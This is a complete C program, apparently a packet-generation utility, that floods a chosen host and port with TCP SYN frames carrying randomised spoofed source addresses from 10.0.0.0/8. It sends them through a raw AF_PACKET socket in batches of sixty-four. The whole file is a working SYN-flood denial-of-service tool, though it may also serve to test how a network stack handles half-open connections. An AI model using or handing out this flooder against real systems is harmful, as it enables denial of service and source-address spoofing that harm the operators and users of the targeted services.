// SPDX-License-Identifier: GPL-2.0-only
/*
 * flood.c - SYNs from everywhere: half-open connections that nobody will complete.
 *
 * usage: flood INTERFACE DST_MAC DST_ADDRESS DST_PORT COUNT
 *
 * Frames leave INTERFACE with random sources in 10.0.0.0/8. Prints how many were sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define BATCH 64

struct frame {
	struct ethhdr eth;
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static uint64_t state = 88172645463325252ull;

static uint32_t next_random(void) /* xorshift64 (Marsaglia 2003) */
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return (uint32_t)(state >> 16);
}

static uint32_t add(uint32_t sum, const void *data, size_t len)
{
	const uint8_t *p = data;

	for (size_t i = 0; i < len; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void fill(struct frame *f, uint32_t dst, uint16_t port)
{
	memset(&f->ip, 0, sizeof(f->ip) + sizeof(f->tcp));
	f->ip.version = 4;
	f->ip.ihl = 5;
	f->ip.tot_len = htons(sizeof(f->ip) + sizeof(f->tcp));
	f->ip.ttl = 64;
	f->ip.protocol = IPPROTO_TCP;
	f->ip.saddr = htonl(0x0a000000 | (next_random() & 0x00fffffe) | 0x10000);
	f->ip.daddr = dst;
	f->ip.check = fold(add(0, &f->ip, sizeof(f->ip)));
	f->tcp.source = htons((uint16_t)(1024 + next_random() % 60000));
	f->tcp.dest = htons(port);
	f->tcp.seq = htonl(next_random());
	f->tcp.doff = 5;
	f->tcp.syn = 1;
	f->tcp.window = htons(64240);
	f->tcp.check = fold(add(add(IPPROTO_TCP + sizeof(f->tcp), &f->ip.saddr, 8), &f->tcp,
				sizeof(f->tcp)));
}

int main(int argc, char **argv)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = 6};
	static struct frame frames[BATCH];
	struct mmsghdr msgs[BATCH] = {0};
	struct iovec iov[BATCH];
	unsigned long count, sent = 0;
	unsigned int mac[6];
	int fd, i, n;

	if (argc != 6 || sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4],
				&mac[5]) != 6)
		return 2;
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	to.sll_ifindex = (int)if_nametoindex(argv[1]);
	count = strtoul(argv[5], NULL, 10);
	for (i = 0; i < BATCH; i++) {
		for (n = 0; n < 6; n++)
			frames[i].eth.h_dest[n] = (uint8_t)mac[n];
		frames[i].eth.h_source[0] = 2;
		frames[i].eth.h_proto = htons(ETH_P_IP);
		iov[i] = (struct iovec){&frames[i], sizeof(frames[i])};
		msgs[i].msg_hdr = (struct msghdr){
			.msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &iov[i], .msg_iovlen = 1};
	}
	while (sent < count) {
		for (i = 0; i < BATCH; i++)
			fill(&frames[i], inet_addr(argv[3]), (uint16_t)atoi(argv[4]));
		n = sendmmsg(fd, msgs, BATCH, 0);
		if (n < 0 && errno != ENOBUFS) {
			perror("flood");
			return 1;
		}
		sent += n > 0 ? (unsigned long)n : 0;
	}
	printf("%lu\n", sent);
	return 0;
}
